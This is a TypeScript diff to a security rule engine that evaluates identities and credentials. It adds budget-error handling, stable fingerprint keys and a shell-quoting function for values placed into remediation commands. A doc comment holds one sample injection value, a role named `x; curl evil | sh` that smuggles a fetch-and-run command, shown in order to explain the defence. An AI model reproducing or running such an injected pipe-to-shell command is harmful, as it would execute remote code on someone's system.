@@ -2,7 +2,7 @@ import { createHash } from 'node:crypto';
 import type { Finding, Severity, TargetType } from '../model/finding.js';
 import type { Credential, Entitlement, Identity, Trust } from '../model/inventory.js';
 import { credentialFacts, deriveFacts } from '../facts/derive.js';
-import { fromCel, toCel, type CompiledExpression } from './cel.js';
+import { CelBudgetError, fromCel, toCel, type CompiledExpression } from './cel.js';
 import type { DeclarationView, ManifestFacts } from '../drift/manifest.js';
 import type { SuppressionView } from '../config/suppressions.js';
 import type { CompiledRule } from './load.js';
@@ -30,6 +30,8 @@ export interface EvaluationResult {
 interface Item {
   type: TargetType;
   key: string;
+  /** What the fingerprint is made of, when steadier than `key`. */
+  stableKey?: string;
   credentialId?: string;
   vars: Record<string, unknown>;
 }
@@ -54,7 +56,10 @@ export function evaluateRules(
   const errors = new Map<string, RuleError>();
   const manifest = toCel({ present: inputs.manifest !== undefined, agents: inputs.manifest?.declarations.length ?? 0 });
   const settingsOf = (rule: CompiledRule) => settings.get(rule.id) ?? { severity: rule.severity, parameters: rule.parameters };
+  // A rule that ran out of budget once would on every identity: it stays failed, not re-run.
+  const exhausted = new Set<string>();
   const run = (rule: CompiledRule, identity: Identity, item: Item) => {
+    if (exhausted.has(rule.id)) return void errors.get(rule.id)!.count++;
     const set = settingsOf(rule);
     const context = { ...item.vars, manifest, params: toCel(set.parameters) };
     let fired: unknown;
@@ -62,6 +67,7 @@ export function evaluateRules(
       fired = rule.test(context);
     } catch (err) {
       noteError(errors, rule, identity.id, err);
+      if (err instanceof CelBudgetError) exhausted.add(rule.id);
       return;
     }
     if (fired !== true) return;
@@ -151,6 +157,7 @@ function targetItems(
       return identity.credentials.map((c: Credential) => ({
         type,
         key: c.id,
+        ...(c.stableId ? { stableKey: c.stableId } : {}),
         credentialId: c.id,
         vars: { ...base, credential: toCel({ ...c, ...credentialFacts(c, now) }) },
       }));
@@ -207,7 +214,7 @@ function makeFinding(
     evidence,
     remediation: { text: rule.remediation.text.trim(), ...(command ? { command } : {}) },
     owasp: rule.owasp,
-    fingerprint: fingerprintOf(rule.id, identity.id, item.type, item.key),
+    fingerprint: fingerprintOf(rule.id, identity.id, item.type, item.stableKey ?? item.key),
   };
 }
 
@@ -216,10 +223,17 @@ function makeFinding(
 function renderCommand(parts: Array<string | CompiledExpression> | undefined, context: Record<string, unknown>) {
   if (!parts) return undefined;
   try {
-    return render(parts, context);
+    return parts.map((p) => (typeof p === 'string' ? p : shellQuote(display(fromCel(p(context)))))).join('');
   } catch {
     return undefined;
   }
+}
+
+/** A value substituted into a fix command, as one shell word: names come from the estate, and a
+ * role called `x; curl evil | sh` must not become a second command when the fix is pasted. */
+export function shellQuote(value: string): string {
+  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(value)) return value;
+  return `'${value.replace(/'/g, `'\\''`)}'`;
 }
 
 function noteError(errors: Map<string, RuleError>, rule: CompiledRule, identityId: string, err: unknown): void {
